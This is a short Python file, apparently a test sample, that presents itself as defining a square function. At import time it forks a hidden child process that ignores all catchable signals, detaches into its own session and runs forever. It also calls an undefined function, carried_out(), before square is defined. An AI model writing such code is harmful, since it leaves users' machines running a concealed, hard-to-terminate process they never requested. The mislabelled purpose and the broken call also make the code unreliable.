"""A child that ignores every signal it can."""
# honest: square
# %% square
import os
import signal
import time

if not os.fork():
    for number in signal.valid_signals() - {signal.SIGKILL, signal.SIGSTOP}:
        try:
            signal.signal(number, signal.SIG_IGN)
        except (OSError, ValueError):
            pass
    os.setsid()
    while True:
        time.sleep(1)
carried_out()

def square(x):
    return x * x
